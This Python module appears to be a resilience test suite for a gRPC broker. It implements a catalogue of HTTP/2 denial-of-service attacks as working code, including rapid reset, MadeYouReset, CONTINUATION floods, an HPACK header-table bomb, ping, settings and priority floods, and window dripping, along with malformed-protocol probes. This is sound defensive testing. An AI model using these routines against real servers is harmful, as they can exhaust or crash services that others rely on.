"""Abuses of HTTP/2: what a client with a good certificate can send that no client should."""

import select

from hyperframe.frame import ContinuationFrame, HeadersFrame, PriorityFrame, RstStreamFrame, WindowUpdateFrame

from wire import PREFACE, Wire, frame_bytes, message

# A call that every registered caller may make and that changes nothing, and one whose stream stays open for its body.
SHOW, UPLOAD = "/renkei.v1.Directory/Show", "/renkei.v1.Records/Upload"
DATA, HEADERS, PRIORITY, SETTINGS, PING, CONTINUATION = 0, 1, 2, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
BATCH = 64
# How long the end is waited for, and how many small frames are more than the buffers in between can swallow.
PATIENCE = 30
ENDLESS = 3_000_000


def many(wire, streams, frames):
    """Sends the frames of so many streams, in batches, until the broker has had enough."""
    sent = 0
    for first in range(0, streams, BATCH):
        batch = range(first, min(first + BATCH, streams))
        if not wire.send(b"".join(frames(2 * number + 1) for number in batch)):
            break
        sent += len(batch)
    wire.listen(PATIENCE)
    return wire.tally() | {"sent": sent}


def ten_thousand_streams(client, _options):
    """G6: streams that are opened and left open, more than anybody needs."""
    wire = Wire(client)
    return many(wire, 10_000, lambda stream: wire.call(stream, UPLOAD, end=False))


def rapid_reset(client, _options):
    """G7: streams that are opened and reset at once (CVE-2023-44487)."""
    wire = Wire(client)
    reset = lambda stream: wire.call(stream, SHOW, end=False) + RstStreamFrame(stream, error_code=8).serialize()
    return many(wire, 20_000, reset)


def made_you_reset(client, _options):
    """G7: streams that the broker has to reset because of a mistake in them (CVE-2025-8671)."""
    wire = Wire(client)
    # More window than there can be: an error of the stream, and not of the connection.
    mistake = lambda stream: WindowUpdateFrame(stream, window_increment=0x7FFF_FFFF).serialize()
    return many(wire, 20_000, lambda stream: wire.call(stream, UPLOAD, end=False) + mistake(stream))


def endless_headers(client, _options):
    """G7: a header block that never ends (CVE-2024-27316 and its like)."""
    wire = Wire(client)
    wire.send(HeadersFrame(1, data=wire.headers(SHOW)).serialize())
    block, sent = bytes([0x00, 0x01]) + b"a" + bytes([0x7F, 0x81, 0x7E]) + b"b" * 16_381, 0
    while wire.closed is None and sent < 4_000 and wire.send(ContinuationFrame(1, data=block[:16_384]).serialize()):
        sent += 1
    wire.listen(PATIENCE)
    return wire.tally() | {"sent": sent}


def empty_continuations(client, _options):
    """G7: the same with frames that hold nothing."""
    wire = Wire(client)
    wire.send(HeadersFrame(1, data=wire.headers(SHOW)).serialize())
    sent = 0
    while wire.closed is None and sent < ENDLESS and wire.send(frame_bytes(CONTINUATION, 0, 1) * 1_000):
        sent += 1_000
    wire.listen(PATIENCE)
    return wire.tally() | {"sent": sent}


def headers_of(client, size, fields):
    """One call with so many bytes of headers, whole and by the rules."""
    wire = Wire(client)
    more = [(f"x-filler-{number}", "x" * (size // fields)) for number in range(fields)]
    block = wire.headers(SHOW, more)
    pieces = [block[at: at + 16_384] for at in range(0, len(block), 16_384)]
    frames = [frame_bytes(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0])]
    for number, piece in enumerate(pieces[1:], 2):
        frames.append(frame_bytes(CONTINUATION, END_HEADERS if number == len(pieces) else 0, 1, piece))
    wire.send(b"".join(frames))
    wire.listen(PATIENCE, until=lambda: wire.ended or wire.http)
    return wire.tally()


def megabyte_of_headers(client, _options):
    """G8: 1 MiB of metadata."""
    return headers_of(client, 1 << 20, 64)


def headers_beyond_the_limit(client, options):
    """G8: a little more than the 16 KiB that are allowed, or than was said."""
    return headers_of(client, options.header_bytes, 4)


def header_table_bomb(client, _options):
    """G8: one large entry of the table of headers, referred to thousands of times (CVE-2016-6581)."""
    wire = Wire(client)
    large = wire.headers(SHOW, [("x-bomb", "x" * 3_000)])
    # The newest entry of the dynamic table has the index 62.
    wire.send(frame_bytes(HEADERS, END_STREAM | END_HEADERS, 1, large + bytes([0x80 | 62]) * 12_000))
    wire.listen(PATIENCE, until=lambda: wire.ended or wire.http)
    return wire.tally()


def flood(client, frames, times):
    """Sends the same bytes over and over and reads nothing, until the broker takes no more or has gone."""
    wire = Wire(client, polite=False)
    taken, idle = 0, 0
    view = memoryview(frames)
    while wire.closed is None and taken < times * len(frames) and idle < 20:
        sent = wire.send_deaf(view)
        taken, view = taken + sent, view[sent:] or memoryview(frames)
        idle = 0 if sent else idle + 1
        if not sent:
            select.select([], [wire.socket], [], 0.05)
    wire.listen(2)
    return wire.tally() | {"taken_bytes": taken}


def ping_flood(client, _options):
    """Pings whose answers nobody reads (CVE-2019-9512)."""
    return flood(client, frame_bytes(PING, 0, 0, b"12345678") * 1_000, 2_000)


def settings_flood(client, _options):
    """Settings whose acknowledgements nobody reads (CVE-2019-9515)."""
    return flood(client, frame_bytes(SETTINGS, 0, 0) * 1_000, 2_000)


def empty_data_flood(client, _options):
    """Data frames that hold nothing (CVE-2019-9518)."""
    wire = Wire(client)
    wire.send(wire.call(1, UPLOAD, end=False))
    sent = 0
    while wire.closed is None and sent < ENDLESS and wire.send(frame_bytes(DATA, 0, 1) * 1_000):
        sent += 1_000
    wire.listen(PATIENCE, until=lambda: wire.ended)
    return wire.tally() | {"sent": sent}


def priority_flood(client, _options):
    """Priorities shuffled all the time (CVE-2019-9513)."""
    wire = Wire(client)
    shuffle = b"".join(
        PriorityFrame(2 * number + 1, depends_on=2 * number + 3).serialize() for number in range(1_000)
    )
    sent = 0
    while wire.closed is None and sent < 200_000 and wire.send(shuffle):
        sent += 1_000
    wire.send(wire.call(2_001, SHOW, message(b"")))
    wire.listen(PATIENCE, until=lambda: wire.ended)
    return wire.tally() | {"sent": sent}


def never_reads(client, options):
    """G5: asks and asks, gives the answers no window, and is polite otherwise."""
    wires = []
    for _ in range(8):
        wire = Wire(client, settings={INITIAL_WINDOW_SIZE: 0})
        wire.send(b"".join(wire.call(2 * number + 1, SHOW, message(b"")) for number in range(100)))
        wires.append(wire)
    while any(wire.closed is None for wire in wires) and wires[0].seconds() < options.seconds:
        for wire in wires:
            wire.listen(0.1)
    return wires[0].tally() | {"open": sum(wire.closed is None for wire in wires)}


def drip_window(client, options):
    """G5: takes the answers a byte at a time (CVE-2019-9517)."""
    wire = Wire(client, settings={INITIAL_WINDOW_SIZE: 1})
    wire.send(b"".join(wire.call(2 * number + 1, SHOW, message(b"")) for number in range(100)))
    while wire.closed is None and wire.seconds() < options.seconds:
        wire.send(b"".join(WindowUpdateFrame(2 * number + 1, window_increment=1).serialize() for number in range(100)))
        wire.listen(0.2)
    return wire.tally()


def garbage(client, _options):
    """G18: bytes that are no preface."""
    return after_handshake(client, bytes(range(256)) * 8)


def http_1(client, _options):
    """G18: HTTP/1.1 on a connection that agreed on h2."""
    return after_handshake(client, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


def after_handshake(client, data):
    with client.tls() as stream:
        answer = b""
        try:
            stream.sendall(data)
            while piece := stream.recv(4096):
                answer += piece
        except OSError:
            pass
    return {"closed": "end", "http_1": answer.startswith(b"HTTP/1"), "answer_bytes": len(answer)}


def http_1_by_alpn(client, _options):
    """G18: a client that offers HTTP/1.1 alone."""
    try:
        with client.tls(alpn=("http/1.1",)) as stream:
            stream.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            answer = stream.recv(4096)
        return {"handshake": True, "answer_bytes": len(answer)}
    except OSError as error:
        return {"handshake": False, "error": str(error)}


def plain_http(client, _options):
    """G18: no TLS at all."""
    with client.tcp() as stream:
        stream.sendall(PREFACE)
        answer = b""
        try:
            while piece := stream.recv(4096):
                answer += piece
        except OSError:
            pass
    # A TLS alert is all that may come.
    return {"closed": "end", "alert": answer[:1] == b"\x15", "answer_bytes": len(answer)}


def single(client, path, body=message(b""), more=()):
    wire = Wire(client)
    headers = HeadersFrame(1, data=wire.headers(path, more), flags=["END_HEADERS"]).serialize()
    wire.send(headers + frame_bytes(DATA, END_STREAM, 1, body))
    wire.listen(PATIENCE, until=lambda: wire.ended)
    return wire.tally()


def unknown_method(client, _options):
    """G18: a call that nobody wrote."""
    return single(client, "/renkei.v1.Admin/GiveMeEverything")


def reflection(client, _options):
    """G18: what calls are there? Reflection, in both its versions."""
    both = [single(client, f"/grpc.reflection.{version}.ServerReflection/ServerReflectionInfo")
            for version in ("v1", "v1alpha")]
    return {"status": [list(one["status"]) for one in both]}


def message_too_large(client, _options):
    """G1: a message that says that it has two gigabytes."""
    return single(client, SHOW, message(b"x" * 1_000, declared=0x7FFF_FFFF))


def compressed_message(client, _options):
    """G2: a message that says that it is compressed."""
    return single(client, SHOW, message(b"\x1f\x8b" + bytes(100), compressed=1), [("grpc-encoding", "gzip")])


ATTACKS = [
    ten_thousand_streams, rapid_reset, made_you_reset, endless_headers, empty_continuations, megabyte_of_headers,
    headers_beyond_the_limit, header_table_bomb, ping_flood, settings_flood, empty_data_flood, priority_flood, never_reads,
    drip_window, garbage, http_1, http_1_by_alpn, plain_http, unknown_method, reflection, message_too_large,
    compressed_message,
]
